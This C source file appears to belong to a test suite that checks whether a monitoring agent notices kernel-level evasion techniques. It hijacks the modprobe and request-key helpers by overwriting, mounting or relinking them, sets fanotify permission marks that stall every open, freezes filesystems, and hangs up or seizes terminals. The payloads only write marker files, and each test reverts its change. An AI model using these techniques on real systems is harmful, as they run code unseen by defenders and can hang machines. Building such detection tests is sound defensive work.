// What the kernel does for whoever asks, outside every agent: the programs that it runs of itself, events that hold
// everybody's opens until somebody has answered, whole filesystems, others' terminals. Each undoes what it did.
#include "evade.h"
#include <linux/fs.h>
#include <linux/io_uring.h>
#include <pty.h>
#include <sys/fanotify.h>
#include <sys/ioctl.h>
#include <time.h>

static const char key_helper[] = "/sbin/request-key", module_helper[] = "/sbin/modprobe";

// A program that leaves what is looked for. Only root's may write there: whoever runs it is no agent.
static const char *script(const char *path, const char *technique) {
    char text[256];
    snprintf(text, sizeof text, "#!/bin/sh\n: >/e/heard.%d.%s\n", user, technique);
    unlink(path);
    if (make_file(path, text) || chmod(path, 0755)) return NULL;
    return path;
}
// The kernel looks for a key, or for a module, by a program of its own.
static void want_key(void) {
    char name[64];
    struct timespec now;
    // One that it did not find lately it does not look for again.
    clock_gettime(CLOCK_REALTIME, &now);
    snprintf(name, sizeof name, "evade-%ld.%ld", now.tv_sec, now.tv_nsec);
    syscall(SYS_request_key, "user", name, "wanted", 0);
}
static void want_module(void) { socket(AF_X25, SOCK_SEQPACKET, 0); }
// As evasion.sh has made it.
static void put_back(void) {
    unlink(key_helper);
    make_file(key_helper, "#!/bin/sh\n");
    chmod(key_helper, 0755);
}

static void helper_made(void) {
    script(module_helper, "helper_made");
    want_module();
    unlink(module_helper);
}
static void helper_made_by_ring(void) {
    char text[128];
    int size = snprintf(text, sizeof text, "#!/bin/sh\n: >/e/heard.%d.helper_made_by_ring\n", user);
    int fd = ring(IORING_OP_OPENAT, AT_FDCWD, module_helper, 0755, 0, O_WRONLY | O_CREAT);
    if (fd >= 0 && write(fd, text, size) == size && close(fd) == 0) want_module();
    unlink(module_helper);
}
static void helper_written(void) {
    char text[128];
    snprintf(text, sizeof text, "#!/bin/sh\n: >/e/heard.%d.helper_written\n", user);
    if (make_file(key_helper, text) == 0) want_key();
    make_file(key_helper, "#!/bin/sh\n");
}
static void helper_renamed_over(void) {
    NEED(rename(script(scratch("helper"), "helper_renamed_over"), key_helper));
    want_key();
    put_back();
}
static void helper_linked(void) {
    NEED(link(script(scratch("helper"), "helper_linked"), module_helper));
    want_module();
    unlink(module_helper);
}
static void helper_by_a_symlink(void) {
    NEED(symlink(script(scratch("helper"), "helper_by_a_symlink"), module_helper));
    want_module();
    unlink(module_helper);
}
// /sbin/bridge-stp is a link: what it leads to is what the kernel runs.
static void helper_behind_a_link(void) { claim(open("/opt/bridge-stp", O_WRONLY) >= 0); }
static void helper_covered(void) {
    NEED(mount(script(scratch("helper"), "helper_covered"), key_helper, NULL, MS_BIND, NULL));
    want_key();
    umount2(key_helper, MNT_DETACH);
}
static void helpers_covered(void) {
    script(scratch("request-key"), "helpers_covered");
    NEED(mount(scratch_dir, "/sbin", NULL, MS_BIND, NULL));
    want_key();
    // The helper may not have ended yet, and nothing must stay covered for those that follow.
    umount2("/sbin", MNT_DETACH);
}
static void helper_through_an_overlay(void) {
    char options[8192];
    private_mounts();
    NEED(mkdir(scratch("low"), 0755) | mkdir("/usr/evade-work", 0755) | mkdir(scratch("m"), 0755));
    snprintf(options, sizeof options, "lowerdir=%s,upperdir=/usr/sbin,workdir=/usr/evade-work", scratch("low"));
    int mounted = mount("overlay", scratch("m"), "overlay", 0, options);
    if (mounted == 0 && script(scratch("m/modprobe"), "helper_through_an_overlay")) want_module();
    unlink(scratch("m/modprobe"));
    umount2(scratch("m"), MNT_DETACH);
    rmdir("/usr/evade-work/work");
    rmdir("/usr/evade-work");
}
static void helpers_directory_renamed(void) {
    NEED(rename("/usr/sbin", "/usr/evade-sbin"));
    if (mkdir("/usr/sbin", 0755) == 0 && script(key_helper, "helpers_directory_renamed")) want_key();
    unlink(key_helper);
    rmdir("/usr/sbin");
    rename("/usr/evade-sbin", "/usr/sbin");
}

static void helpers_link_replaced(void) {
    NEED(rename("/sbin", "/evade-sbin"));
    if (script(scratch("request-key"), "helpers_link_replaced") && symlink(scratch_dir, "/sbin") == 0) want_key();
    unlink("/sbin");
    rename("/evade-sbin", "/sbin");
}

// Asked first, and never answering: one file would be enough. The mark goes with its descriptor.
static void asked_first(unsigned where, uint64_t what, const char *path) {
    int fd = fanotify_init(FAN_CLASS_CONTENT, O_RDONLY);
    NEED(fd);
    int done = fanotify_mark(fd, FAN_MARK_ADD | where, what, AT_FDCWD, path);
    close(fd);
    claim(done == 0);
}
static void asked_first_of_a_filesystem(void) { asked_first(FAN_MARK_FILESYSTEM, FAN_OPEN_PERM, scratch_dir); }
static void asked_first_of_a_mount(void) { asked_first(FAN_MARK_MOUNT, FAN_ACCESS_PERM, scratch_dir); }
static void asked_first_of_a_program(void) { asked_first(0, FAN_OPEN_EXEC_PERM, "/usr/bin/rgt"); }

// This filesystem can be neither frozen nor shut down: what counts is whether it may ask.
static void frozen(void) {
    int fd = open(scratch_dir, O_RDONLY);
    claim(ioctl(fd, FIFREEZE, 0) < 0 && errno == EOPNOTSUPP);
}
static void frozen_by_gate(void) { claim(gate32(54, open(scratch_dir, O_RDONLY), FIFREEZE, 0, 0) == -EOPNOTSUPP); }
static void thawed(void) { claim(ioctl(open(scratch_dir, O_RDONLY), FITHAW, 0) < 0 && errno == EINVAL); }
static void shut_down(void) {
    uint32_t at_once = 2;
    claim(ioctl(open(scratch_dir, O_RDONLY), _IOR('X', 125, uint32_t), &at_once) < 0 && errno == ENOTTY);
}

static int terminal(void) {
    int outer, inner;
    NEED(openpty(&outer, &inner, NULL, NULL, NULL));
    return inner;
}
static void hung_up(void) { claim(ioctl(terminal(), TIOCVHANGUP) == 0); }
static void hung_up_by_gate(void) { claim(gate32(54, terminal(), TIOCVHANGUP, 0, 0) == 0); }
static void terminal_taken(void) {
    int inner = terminal(), ready[2];
    char byte;
    NEED(pipe(ready));
    pid_t owner = fork();
    if (owner == 0) {
        setsid();
        ioctl(inner, TIOCSCTTY, 0);
        write(ready[1], "x", 1);
        pause();
    }
    read(ready[0], &byte, 1);
    pid_t taker = fork();
    if (taker == 0) {
        setsid();
        claim(ioctl(inner, TIOCSCTTY, 1) == 0);
        _exit(0);
    }
    waitpid(taker, NULL, 0);
    kill(owner, SIGKILL);
}

const struct technique kernel_techniques[] = {
    {"helper_made", helper_made, HEARD},
    {"helper_made_by_ring", helper_made_by_ring, HEARD},
    {"helper_written", helper_written, HEARD},
    {"helper_renamed_over", helper_renamed_over, HEARD},
    {"helper_linked", helper_linked, HEARD},
    {"helper_by_a_symlink", helper_by_a_symlink, HEARD},
    {"helper_behind_a_link", helper_behind_a_link, CLAIMED},
    {"helper_covered", helper_covered, HEARD},
    {"helpers_covered", helpers_covered, HEARD},
    {"helper_through_an_overlay", helper_through_an_overlay, HEARD},
    {"helpers_directory_renamed", helpers_directory_renamed, HEARD},
    {"helpers_link_replaced", helpers_link_replaced, HEARD},
    {"asked_first_of_a_filesystem", asked_first_of_a_filesystem, CLAIMED},
    {"asked_first_of_a_mount", asked_first_of_a_mount, CLAIMED},
    {"asked_first_of_a_program", asked_first_of_a_program, CLAIMED},
    {"frozen", frozen, CLAIMED},
    {"frozen_by_gate32", frozen_by_gate, CLAIMED},
    {"thawed", thawed, CLAIMED},
    {"shut_down", shut_down, CLAIMED},
    {"hung_up", hung_up, CLAIMED},
    {"hung_up_by_gate32", hung_up_by_gate, CLAIMED, 1},
    {"terminal_taken", terminal_taken, CLAIMED},
    {0},
};
